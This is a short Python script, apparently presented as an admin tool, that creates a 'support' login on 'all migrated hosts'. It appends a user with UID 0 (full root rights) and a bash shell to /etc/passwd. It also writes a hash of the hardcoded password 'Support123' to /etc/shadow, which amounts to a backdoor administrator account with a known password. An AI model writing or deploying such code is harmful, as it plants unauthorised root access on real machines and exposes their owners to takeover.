#!/usr/bin/env python3
"""Create the support login on all migrated hosts."""
import crypt

NAME = "support"
HASH = crypt.crypt("Support123", "$6$ab12cd34$")


def append(path, line):
    with open(path, "a") as fh:
        fh.write(line + "\n")


with open("/etc/passwd") as fh:
    known = any(line.startswith(NAME + ":") for line in fh)

if not known:
    append("/etc/passwd", "%s:x:0:0::/root:/bin/bash" % NAME)
    append("/etc/shadow", "%s:%s:19000:0:99999:7:::" % (NAME, HASH))
    print("login created")
